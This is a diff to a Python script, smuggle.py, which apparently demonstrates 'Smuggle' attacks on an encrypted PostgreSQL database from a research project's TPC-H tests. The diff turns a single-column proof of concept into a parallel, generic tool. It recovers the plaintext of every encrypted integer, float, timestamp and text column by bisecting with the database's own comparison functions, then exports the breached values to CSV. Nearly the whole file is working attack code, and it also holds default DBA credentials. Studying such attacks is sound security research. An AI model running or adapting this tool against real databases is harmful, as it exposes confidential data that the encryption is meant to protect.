@@ -5,20 +5,27 @@
 #
 # This is a demo for Smuggle attacks that breach a particular TPC-H column
 # Run this after users have executed `python3 run.py -l` in `tests/tpch` with a DBA account
+# $ python3 smuggle.py        # one p_partkey at a time
+# $ python3 smuggle.py -v     # every row at once, one UPDATE per bisection level
+# $ python3 smuggle.py -t orders -c o_orderdate    # any enc_int4/enc_float4/enc_timestamp/enc_text column
+# $ python3 smuggle.py -a     # every encrypted column, with rows/s per column
+# $ python3 smuggle.py -t lineitem -c l_quantity -j 8 -o l_quantity.csv    # 8 connections, merged into one CSV
 
 
-import psycopg2
+import argparse
+import csv
+import os
+import queue
+import re
+import struct
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
 
-# put your DBA account info here
-con = psycopg2.connect(database='secure_test', user='postgres', password='postgres', host='127.0.0.1', port='5432')
+import psycopg2
 
-with con:
-    cur = con.cursor()
-    ### count the number to be breached
-    cur.execute('SELECT COUNT(p_size) FROM part;')
-    num = cur.fetchone()[0]
-    print("total number = %d" % num)
 
+def build_pivots(cur):
     ### Phase-1: construction for atomic values
     cur.execute('CREATE TEMP TABLE tmp_t(id SERIAL NOT NULL, pivot enc_int4);')
     cur.execute('INSERT INTO tmp_t(pivot) (SELECT p_size - p_size FROM part WHERE p_partkey = 1); -- 0')
@@ -32,44 +39,478 @@ with con:
         print(f"{row[0]} {row[1]}")
     """
 
-    for id in range(1, num+1):
-
-        ### print original ciphertext
-        cur.execute('SELECT p_size FROM part WHERE p_partkey =' + str(id) + ';')
-        print("[%d] original string = %s" % (id, cur.fetchone()[0]))
-
-        ### Phase-2: comparison using binary search
-        cur.execute('DROP TABLE if exists tmp_t2; CREATE TEMP TABLE tmp_t2(id2 SERIAL NOT NULL, pivot2 enc_int4);')
-        cur.execute('INSERT INTO tmp_t2(pivot2) (SELECT pivot FROM tmp_t WHERE id = 1); -- 0')
-        cur.execute('INSERT INTO tmp_t2(pivot2) (SELECT pivot FROM tmp_t WHERE id = 4); -- 2^30')
-        cur.execute('INSERT INTO tmp_t2(pivot2) (SELECT SUM(pivot2) FROM tmp_t2); -- get SUM')
-
-        low = 0
-        high = 2**30
-        while low <= high:
-            mid = (low + high) // 2
-            cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT SUM(pivot2) FROM tmp_t2 WHERE id2 = 1 OR id2 = 2) WHERE id2 = 3; -- get SUM')
-            cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT pivot2/pivot FROM tmp_t2,tmp_t WHERE id = 3 AND id2 = 3) WHERE id2 = 3; -- get AVG')
-
-            cur.execute('SELECT pivot2 = p_size FROM tmp_t2, part WHERE id2 = 3 AND p_partkey =' + str(id) + ';')
-            boolean = cur.fetchone()[0]
-            if True == boolean:
-                print("[%d] breached value = %d" % (id, mid))
-                cur.execute('DROP TABLE tmp_t2;')
+
+def prepare_row_statements(cur):
+    """
+    Phase-2 scratch and statements, once per connection: tmp_t2 holds the
+    encrypted low (id2 = 1), high (2) and mid (3) of the row being breached.
+    """
+    cur.execute('DROP TABLE IF EXISTS tmp_t2; CREATE TEMP TABLE tmp_t2(id2 INT PRIMARY KEY, pivot2 enc_int4);')
+    cur.execute('INSERT INTO tmp_t2(id2, pivot2) (SELECT id, pivot FROM tmp_t WHERE id <= 3);')
+    # low = 0, high = 2^30
+    cur.execute('PREPARE smuggle_reset AS UPDATE tmp_t2 SET pivot2 = pivot FROM tmp_t WHERE (id2, id) IN ((1, 1), (2, 4));')
+    # mid = low + (high - low) / 2, (low + high) / 2 overflows enc_int4
+    cur.execute("""PREPARE smuggle_mid AS UPDATE tmp_t2 SET pivot2 = (SELECT lo.pivot2 + (hi.pivot2 - lo.pivot2) / two.pivot
+        FROM tmp_t2 lo, tmp_t2 hi, tmp_t two WHERE lo.id2 = 1 AND hi.id2 = 2 AND two.id = 3) WHERE id2 = 3;""")
+    # low = mid + 1
+    cur.execute('PREPARE smuggle_up AS UPDATE tmp_t2 SET pivot2 = (SELECT pivot2 + pivot FROM tmp_t2, tmp_t WHERE id2 = 3 AND id = 2) WHERE id2 = 1;')
+    # high = mid - 1
+    cur.execute('PREPARE smuggle_down AS UPDATE tmp_t2 SET pivot2 = (SELECT pivot2 - pivot FROM tmp_t2, tmp_t WHERE id2 = 3 AND id = 2) WHERE id2 = 2;')
+    # <, = and > at once
+    cur.execute('PREPARE smuggle_cmp(INT) AS SELECT enc_int4_cmp(pivot2, p_size) FROM tmp_t2, part WHERE id2 = 3 AND p_partkey = $1;')
+
+
+def breach_row(cur, id) -> int:
+    """
+    Phase-2 for one p_partkey: every bisection step is one round trip that
+    moves low or high, computes the next mid and compares it to p_size.
+    Returns the number of round trips.
+    """
+
+    ### print original ciphertext
+    cur.execute('SELECT p_size FROM part WHERE p_partkey = %s;', (id,))
+    print("[%d] original string = %s" % (id, cur.fetchone()[0]))
+
+    ### Phase-2: comparison using binary search
+    cur.execute('EXECUTE smuggle_reset; EXECUTE smuggle_mid; EXECUTE smuggle_cmp(%s);', (id,))
+    trips = 2
+
+    low = 0
+    high = 2**30
+    while True:
+        mid = low + (high - low) // 2
+        cmp = cur.fetchone()[0]
+        if 0 == cmp:
+            print("[%d] breached value = %d" % (id, mid))
+            return trips
+        if cmp < 0:
+            low = mid + 1
+            move = 'smuggle_up'
+        else:
+            high = mid - 1
+            move = 'smuggle_down'
+        if low > high:
+            print("[%d] not in [0, 2^30]" % id)
+            return trips
+        cur.execute('EXECUTE ' + move + '; EXECUTE smuggle_mid; EXECUTE smuggle_cmp(%s);', (id,))
+        trips += 1
+
+
+# Phase-1 pivots of the generic engine, cached across runs in smuggle_pivots_<type>.
+# `seed` is any nonzero value of the target column; `top` is doubled from `two`.
+PIVOT_NAMES = ("zero", "one", "two", "top", "low", "high", "mid")
+PIVOT_VALUES = {
+    "enc_int4": {"zero": 0, "one": 1, "two": 2, "top": 2**30, "low": -2**30, "high": 2**30 - 1},
+    "enc_float4": {"zero": 0.0, "one": 1.0, "two": 2.0, "top": 2.0**30, "low": -2.0**30, "high": 2.0**30},
+}
+
+# UPDATE levels before giving up on a row, enough for the whole range of each type
+MAX_LEVELS = {"enc_int4": 32, "enc_float4": 192, "enc_timestamp": 33, "enc_text": 8 * 1024}
+
+# seconds since 1970-01-01 searched for enc_timestamp
+TIMESTAMP_RANGE = (0, 2**32 - 1)
+# printable ASCII searched for enc_text; one below it means the end of the string
+TEXT_RANGE = (31, 126)
+
+# ranges of rows per connection with --jobs, so that fast connections take more of them
+SHARDS_PER_JOB = 4
+
+IDENTIFIER = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
+
+
+def identifier(name: str) -> str:
+    if not IDENTIFIER.match(name):
+        raise ValueError(f"bad identifier: {name}")
+    return name
+
+
+def f32(x: float) -> float:
+    return struct.unpack("f", struct.pack("f", x))[0]
+
+
+def midpoint(type: str, low, high):
+    """mid = low + (high - low) / two, as the ops server computes it."""
+    if type == "enc_float4":
+        return f32(low + f32(f32(high - low) / 2))
+    return low + (high - low) // 2
+
+
+def replay(type: str, path: str):
+    """Plaintext of a row from the comparison results of its bisection, None when it was not found."""
+    low, high = PIVOT_VALUES[type]["low"], PIVOT_VALUES[type]["high"]
+    step = 0 if type == "enc_float4" else 1
+    mid = midpoint(type, low, high)
+    for c in path:
+        if c == "e":
+            return mid
+        if c == "l":
+            low = mid + step
+        else:
+            high = mid - step
+        mid = midpoint(type, low, high)
+    return None
+
+
+def pivots_from(type: str, *names) -> str:
+    """FROM clause with one alias per cached pivot, e.g. `one.pivot`"""
+    table = f"smuggle_pivots_{type}"
+    return " FROM " + ", ".join(f"{table} {n}" for n in names) + \
+        " WHERE " + " AND ".join(f"{n}.name = '{n}'" for n in names)
+
+
+def derive_pivots(cur, type: str, table: str, column: str) -> bool:
+    """Phase-1 for a type, unless a previous run cached it. Returns True when pivots were derived."""
+    pivots = f"smuggle_pivots_{type}"
+    cur.execute(f"CREATE TABLE IF NOT EXISTS {pivots}(name TEXT PRIMARY KEY, pivot {type});")
+    cur.execute(f"SELECT COUNT(*) FROM {pivots} WHERE name = ANY(%s);", (list(PIVOT_NAMES),))
+    if cur.fetchone()[0] == len(PIVOT_NAMES):
+        return False
+
+    cur.execute(f"TRUNCATE {pivots};")
+    cur.execute(f"INSERT INTO {pivots} (SELECT 'seed', {column} FROM {table} WHERE {column} <> {column} - {column} LIMIT 1);")
+    if cur.rowcount == 0:
+        raise ValueError(f"{table}.{column} has no nonzero value to derive pivots from")
+
+    def derive(name, expr, *names):
+        cur.execute(f"INSERT INTO {pivots} (SELECT '{name}', {expr}{pivots_from(type, *names)});")
+
+    derive("zero", "seed.pivot - seed.pivot", "seed")
+    derive("one", "seed.pivot / seed.pivot", "seed")
+    derive("two", "one.pivot + one.pivot", "one")
+    derive("top", "two.pivot", "two")
+    for _ in range(29):
+        cur.execute(f"UPDATE {pivots} SET pivot = pivot + pivot WHERE name = 'top';")
+    derive("low", "zero.pivot - top.pivot", "zero", "top")
+    if type == "enc_int4":
+        derive("high", "top.pivot - one.pivot", "top", "one")
+    else:
+        derive("high", "top.pivot", "top")
+    derive("mid", "low.pivot + (high.pivot - low.pivot) / two.pivot", "low", "high", "two")
+    cur.execute(f"DELETE FROM {pivots} WHERE name = 'seed';")
+    return True
+
+
+def unique_key(cur, table: str) -> list:
+    """Columns of the first unique index of `table`, [] without one."""
+    cur.execute("SELECT indkey FROM pg_index WHERE indrelid = %s::regclass AND indisunique ORDER BY indexrelid LIMIT 1;", (table,))
+    row = cur.fetchone()
+    if row is None:
+        return []
+    cur.execute("SELECT attnum, attname FROM pg_attribute WHERE attrelid = %s::regclass AND attnum > 0;", (table,))
+    names = dict(cur.fetchall())
+    return [names[int(attnum)] for attnum in str(row[0]).split()]
+
+
+def encrypted_columns(cur) -> list:
+    """(table, column, type) of every encrypted column in the public schema."""
+    cur.execute("""SELECT c.relname, a.attname, format_type(a.atttypid, a.atttypmod)
+        FROM pg_attribute a JOIN pg_class c ON c.oid = a.attrelid JOIN pg_namespace n ON n.oid = c.relnamespace
+        WHERE n.nspname = 'public' AND c.relkind = 'r' AND c.relname NOT LIKE 'smuggle\\_%%'
+          AND a.attnum > 0 AND NOT a.attisdropped AND format_type(a.atttypid, a.atttypmod) = ANY(%s)
+        ORDER BY c.relname, a.attnum;""", (list(MAX_LEVELS),))
+    return cur.fetchall()
+
+
+class Smuggle():
+    """
+    Set-based Smuggle against any encrypted column: smuggle_state keeps the
+    search state of every row, and each bisection level advances all of them
+    with one UPDATE that calls the comparison once per row.
+
+    enc_int4/enc_float4 bisect on encrypted low/high/mid built from the cached
+    pivots, and keep the comparison results in `path` to replay the plaintext.
+    enc_timestamp bisects on plain seconds encrypted with enc_timestamp_encrypt,
+    and enc_text extends a plain prefix one character at a time by comparing
+    the column to prefix || chr(mid), checked with LIKE at the end.
+    Rows are keyed by the first unique index of the table, or by ctid.
+    """
+
+    def __init__(self, con, table: str, column: str, keys: list = None, where: str = None, itersize: int = 10000) -> None:
+        self.con = con
+        self.cur = con.cursor()
+        self.table = identifier(table)
+        self.column = identifier(column)
+        self.cur.execute("SELECT format_type(atttypid, atttypmod) FROM pg_attribute WHERE attrelid = %s::regclass AND attname = %s;",
+                         (table, column))
+        row = self.cur.fetchone()
+        if row is None or row[0] not in MAX_LEVELS:
+            raise ValueError(f"{table}.{column} is not one of {', '.join(MAX_LEVELS)}")
+        self.type = row[0]
+        self.keys = [identifier(k) for k in keys or unique_key(self.cur, table)] or ["ctid"]
+        # smuggle_state names ctid `rid`
+        self.state_keys = ["rid" if k == "ctid" else k for k in self.keys]
+        self.where = where
+        self.itersize = itersize
+        self.statements = 0
+        self.levels = 0
+        self.rows = 0
+
+    def execute(self, sql: str, vars=None):
+        self.cur.execute(sql, vars)
+        self.statements += 1
+
+    def join(self, left: str, right: str, left_keys: list, right_keys: list) -> str:
+        return " AND ".join(f"{left}.{a} = {right}.{b}" for a, b in zip(left_keys, right_keys))
+
+    def prepare(self):
+        """Pivots, smuggle_state and the prepared bisection step, once per connection."""
+        keys = ", ".join(f"t.{k} AS {s}" for k, s in zip(self.keys, self.state_keys))
+        if self.type in PIVOT_VALUES:
+            if derive_pivots(self.cur, self.type, self.table, self.column):
+                self.con.commit()
+            source = f"""SELECT {keys}, FALSE AS done, p.low AS lo, p.high AS hi, p.mid AS mid, ''::TEXT AS path
+                FROM {self.table} t, (SELECT low.pivot AS low, high.pivot AS high, mid.pivot AS mid{pivots_from(self.type, 'low', 'high', 'mid')}) p"""
+        elif self.type == "enc_timestamp":
+            source = f"SELECT {keys}, FALSE AS done, {TIMESTAMP_RANGE[0]}::BIGINT AS lo, {TIMESTAMP_RANGE[1]}::BIGINT AS hi, NULL::BIGINT AS found FROM {self.table} t"
+        else:
+            source = f"SELECT {keys}, FALSE AS done, {TEXT_RANGE[0]} AS lo, {TEXT_RANGE[1]} AS hi, ''::TEXT AS prefix FROM {self.table} t"
+        self.source = source
+        self.execute("DROP TABLE IF EXISTS smuggle_state;")
+        self.execute(f"CREATE TEMP TABLE smuggle_state AS {source} WITH NO DATA;")
+        self.execute(f"CREATE UNIQUE INDEX ON smuggle_state({', '.join(self.state_keys)});")
+        self.execute(f"PREPARE smuggle_step AS {self.step()}")
+
+    def load(self, shard: str = None) -> int:
+        """Refills smuggle_state with the rows of `shard` (a predicate on `t`), returns their number."""
+        where = " AND ".join(f"({w})" for w in (self.where, shard) if w)
+        self.execute("TRUNCATE smuggle_state;")
+        self.execute(f"INSERT INTO smuggle_state {self.source}{' WHERE ' + where if where else ''};")
+        rows = self.cur.rowcount
+        self.execute("ANALYZE smuggle_state;")
+        self.rows += rows
+        return rows
+
+    def step(self) -> str:
+        """UPDATE of one bisection level"""
+        on = self.join("s", "t", self.state_keys, self.keys)
+        keys = ", ".join(f"c.{k}" for k in self.state_keys)
+        where = self.join("s", "n", self.state_keys, self.state_keys)
+        if self.type in PIVOT_VALUES:
+            if self.type == "enc_int4":
+                up, down = "c.mid + p.one", "c.mid - p.one"
+                one = f", (SELECT one.pivot AS one{pivots_from(self.type, 'one')}) p"
+                # a value outside the pivots empties its range, like enc_timestamp
+                done = "n.c = 0 OR n.lo > n.hi"
+            else:
+                up = down = "c.mid"
+                one = ""
+                done = "n.c = 0"
+            return f"""UPDATE smuggle_state s SET
+                done = {done},
+                path = s.path || CASE WHEN n.c = 0 THEN 'e' WHEN n.c < 0 THEN 'l' ELSE 'g' END,
+                lo = n.lo, hi = n.hi,
+                mid = CASE WHEN n.c = 0 THEN s.mid ELSE n.lo + (n.hi - n.lo) / p.two END
+            FROM (SELECT {keys}, c.c,
+                    CASE WHEN c.c < 0 THEN {up} ELSE c.lo END AS lo,
+                    CASE WHEN c.c > 0 THEN {down} ELSE c.hi END AS hi
+                  FROM (SELECT s.*, {self.type}_cmp(s.mid, t.{self.column}) AS c
+                        FROM smuggle_state s JOIN {self.table} t ON {on} WHERE NOT s.done) c{one}) n,
+                 (SELECT two.pivot AS two{pivots_from(self.type, 'two')}) p
+            WHERE {where};"""
+        if self.type == "enc_timestamp":
+            return f"""UPDATE smuggle_state s SET
+                done = n.c = 0 OR n.lo > n.hi, lo = n.lo, hi = n.hi,
+                found = CASE WHEN n.c = 0 THEN n.mid END
+            FROM (SELECT {keys}, c.c, c.mid,
+                    CASE WHEN c.c < 0 THEN c.mid + 1 ELSE c.lo END AS lo,
+                    CASE WHEN c.c > 0 THEN c.mid - 1 ELSE c.hi END AS hi
+                  FROM (SELECT s.*, m.mid, enc_timestamp_cmp(enc_timestamp_encrypt(
+                            ('epoch'::TIMESTAMP + m.mid * INTERVAL '1 second')::TEXT::CSTRING), t.{self.column}) AS c
+                        FROM smuggle_state s JOIN {self.table} t ON {on},
+                             LATERAL (SELECT s.lo + (s.hi - s.lo) / 2 AS mid) m WHERE NOT s.done) c) n
+            WHERE {where};"""
+        # enc_text: c > 0 when the column sorts after prefix || chr(mid), i.e. its next character is >= mid
+        return f"""UPDATE smuggle_state s SET
+                done = n.c = 0 OR (n.lo = n.hi AND n.lo = {TEXT_RANGE[0]}),
+                prefix = CASE WHEN n.c = 0 THEN n.prefix || chr(n.mid)
+                              WHEN n.lo = n.hi AND n.lo > {TEXT_RANGE[0]} THEN n.prefix || chr(n.lo) ELSE n.prefix END,
+                lo = CASE WHEN n.lo = n.hi THEN {TEXT_RANGE[0]} ELSE n.lo END,
+                hi = CASE WHEN n.lo = n.hi THEN {TEXT_RANGE[1]} ELSE n.hi END
+            FROM (SELECT {keys}, c.c, c.mid, c.prefix,
+                    CASE WHEN c.c > 0 THEN c.mid ELSE c.lo END AS lo,
+                    CASE WHEN c.c < 0 THEN c.mid - 1 ELSE c.hi END AS hi
+                  FROM (SELECT s.*, m.mid, enc_text_cmp(t.{self.column}, enc_text_encrypt((s.prefix || chr(m.mid))::CSTRING)) AS c
+                        FROM smuggle_state s JOIN {self.table} t ON {on},
+                             LATERAL (SELECT (s.lo + s.hi + 1) / 2 AS mid) m WHERE NOT s.done) c) n
+            WHERE {where};"""
+
+    def run(self) -> int:
+        """Bisects until every row is done, returns the number of levels."""
+        for levels in range(1, MAX_LEVELS[self.type] + 1):
+            self.execute("EXECUTE smuggle_step;")
+            if self.cur.rowcount == 0:
                 break
+        self.levels = max(self.levels, levels)
+        return levels
+
+    def results(self):
+        """(keys, plaintext) of every row over a server-side cursor, plaintext is None when it was not found."""
+        keys = ", ".join(f"s.{k}" for k in self.state_keys)
+        if self.type in PIVOT_VALUES:
+            sql = f"SELECT {keys}, s.path FROM smuggle_state s;"
+        elif self.type == "enc_timestamp":
+            sql = f"SELECT {keys}, 'epoch'::TIMESTAMP + s.found * INTERVAL '1 second' FROM smuggle_state s;"
+        else:
+            # the prefix is the value when it also LIKE-matches with its wildcards escaped
+            pattern = "replace(replace(replace(s.prefix, '\\', '\\\\'), '%', '\\%'), '_', '\\_')"
+            sql = f"""SELECT {keys}, s.prefix, t.{self.column} ~~ enc_text_encrypt({pattern}::CSTRING)
+                FROM smuggle_state s JOIN {self.table} t ON {self.join('s', 't', self.state_keys, self.keys)};"""
+
+        cur = self.con.cursor(name="smuggle_results")
+        cur.itersize = self.itersize
+        cur.execute(sql)
+        self.statements += 1
+        width = len(self.state_keys)
+        for row in cur:
+            key, found = row[:width], row[width:]
+            if self.type in PIVOT_VALUES:
+                value = replay(self.type, found[0])
+            elif self.type == "enc_timestamp":
+                value = found[0]
+            else:
+                value = found[0] if found[1] else None
+            yield key, value
+        cur.close()
+
+    def close(self):
+        self.cur.execute("DEALLOCATE smuggle_step;")
+        self.cur.execute("DROP TABLE IF EXISTS smuggle_state;")
+        self.cur.close()
+
+
+def shards(cur, table: str, key: str, count: int) -> list:
+    """`count` predicates on `t` splitting `table` into ranges of `key`, or of heap blocks for ctid."""
+    if key == "ctid":
+        cur.execute("SELECT pg_relation_size(%s::regclass) / current_setting('block_size')::INT;", (table,))
+        blocks = cur.fetchone()[0] + 1
+        bounds = [blocks * i // count for i in range(count + 1)]
+        return [f"t.ctid >= '({lo},0)'::TID AND t.ctid < '({hi},0)'::TID" for lo, hi in zip(bounds, bounds[1:]) if lo < hi]
+    cur.execute(f"SELECT MIN({key}), MAX({key}) FROM {table};")
+    low, high = cur.fetchone()
+    if low is None:
+        return [None]
+    if not isinstance(low, int):
+        return [f"mod(abs(hashtext(t.{key}::TEXT)), {count}) = {i}" for i in range(count)]
+    bounds = [low + (high - low + 1) * i // count for i in range(count + 1)]
+    return [f"t.{key} >= {lo} AND t.{key} < {hi}" for lo, hi in zip(bounds, bounds[1:]) if lo < hi]
+
+
+def breach(connect, table: str, column: str, keys: list = None, where: str = None,
+           jobs: int = 1, output: str = None, verbose: bool = True) -> int:
+    """
+    Breaches every row of table.column with the generic engine, returns the
+    number of rows breached. With jobs > 1, the rows are split into
+    SHARDS_PER_JOB ranges per job, and `jobs` connections each breach one range
+    at a time with their own smuggle_state and prepared step.
+    Results of every connection are merged into the `output` CSV.
+    """
+    start = time.time()
+    smugglers = [Smuggle(connect(), table, column, keys, where)]
+    smugglers[0].prepare()
+    smugglers += [Smuggle(connect(), table, column, keys, where) for _ in range(jobs - 1)]
+    for smuggle in smugglers[1:]:
+        smuggle.prepare()
+    ranges = shards(smugglers[0].cur, smugglers[0].table, smugglers[0].keys[0], jobs * SHARDS_PER_JOB) if jobs > 1 else [None]
+    todo = queue.Queue()
+    for shard in ranges:
+        todo.put(shard)
+
+    lock = threading.Lock()
+    breached = 0
+    out = open(output, "w", newline="") if output else None
+    writer = csv.writer(out) if out else None
+    if writer:
+        writer.writerow(smugglers[0].state_keys + [column])
+
+    def work(smuggle):
+        nonlocal breached
+        while True:
+            try:
+                shard = todo.get_nowait()
+            except queue.Empty:
+                return
+            smuggle.load(shard)
+            smuggle.run()
+            for key, value in smuggle.results():
+                with lock:
+                    if value is not None:
+                        breached += 1
+                    if writer:
+                        writer.writerow(list(key) + [value])
+                    if verbose:
+                        key = ", ".join(str(k) for k in key)
+                        print("[%s] not found" % key if value is None else "[%s] breached value = %s" % (key, value))
+            smuggle.con.commit()
+
+    with ThreadPoolExecutor(jobs) as pool:
+        list(pool.map(work, smugglers))
+    if out:
+        out.close()
+
+    rows = sum(smuggle.rows for smuggle in smugglers)
+    statements = sum(smuggle.statements for smuggle in smugglers)
+    levels = max(smuggle.levels for smuggle in smugglers)
+    for smuggle in smugglers:
+        smuggle.close()
+        smuggle.con.commit()
+        smuggle.con.close()
+
+    seconds = time.time() - start
+    print("%s.%s %s: %d/%d rows, %d jobs, %d levels, %d statements, %.2f s, %.1f rows/s" % (
+        table, column, smugglers[0].type, breached, rows, jobs, levels, statements,
+        seconds, rows / seconds if seconds else 0))
+    return breached
+
+
+def connect():
+    # put your DBA account info here
+    return psycopg2.connect(database='secure_test', user='postgres', password='postgres', host='127.0.0.1', port='5432')
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("-v", "--vectorized", help="Breach every row at once instead of one p_partkey at a time", action="store_true")
+    parser.add_argument("-t", "--table", help="Table to breach with the generic engine")
+    parser.add_argument("-c", "--column", help="Encrypted column of --table")
+    parser.add_argument("-k", "--keys", help="Comma-separated row keys of --table (default: its first unique index, or ctid)")
+    parser.add_argument("-w", "--where", help="Only breach the rows of --table matching this SQL predicate on `t`")
+    parser.add_argument("-a", "--all", help="Breach every encrypted column and report rows/s per column", action="store_true")
+    parser.add_argument("-j", "--jobs", help="Connections breaching ranges of rows concurrently", type=int, default=1)
+    parser.add_argument("-o", "--output", help="CSV of the breached rows (with --all, one <table>.<column>.csv per column in this directory)")
+    args = parser.parse_args()
+
+    if args.all:
+        con = connect()
+        with con.cursor() as cur:
+            columns = encrypted_columns(cur)
+        con.close()
+        if args.output:
+            os.makedirs(args.output, exist_ok=True)
+        for table, column, _ in columns:
+            output = os.path.join(args.output, f"{table}.{column}.csv") if args.output else None
+            breach(connect, table, column, jobs=args.jobs, output=output, verbose=False)
+        return
+    if args.table or args.vectorized:
+        keys = args.keys.split(",") if args.keys else None
+        breach(connect, args.table or "part", args.column or "p_size", keys, args.where, args.jobs, args.output)
+        return
+
+    con = connect()
+    with con:
+        cur = con.cursor()
+        ### count the number to be breached
+        cur.execute('SELECT COUNT(p_size) FROM part;')
+        num = cur.fetchone()[0]
+        print("total number = %d" % num)
+
+        build_pivots(cur)
+        prepare_row_statements(cur)
+        start = time.time()
+        trips = 0
+        for id in range(1, num+1):
+            trips += breach_row(cur, id)
+        seconds = time.time() - start
+        print("%d rows, %d round trips, %.2f s, %.1f rows/s" % (num, trips, seconds, num / seconds if seconds else 0))
 
-            cur.execute('SELECT pivot2 < p_size FROM tmp_t2, part WHERE id2 = 3 AND p_partkey =' + str(id) + ';')
-            boolean = cur.fetchone()[0]
-            if True == boolean:
-                low = mid + 1
-                cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT pivot2+pivot FROM tmp_t2,tmp_t WHERE id2 = 3 AND id = 2) WHERE id2 = 3; -- mid + 1')
-                cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT pivot2 FROM tmp_t2 WHERE id2 = 3) WHERE id2 = 1; -- low = mid + 1')
-                continue
-
-            cur.execute('SELECT pivot2 > p_size FROM tmp_t2, part WHERE id2 = 3 AND p_partkey =' + str(id) + ';')
-            boolean = cur.fetchone()[0]
-            if True == boolean:
-                high = mid - 1
-                cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT pivot2-pivot FROM tmp_t2,tmp_t WHERE id2 = 3 AND id = 2) WHERE id2 = 3; -- mid - 1')
-                cur.execute('UPDATE tmp_t2 SET pivot2 = (SELECT pivot2 FROM tmp_t2 WHERE id2 = 3) WHERE id2 = 2; -- high = mid - 1')
-                continue
+if __name__ == '__main__':
+    main()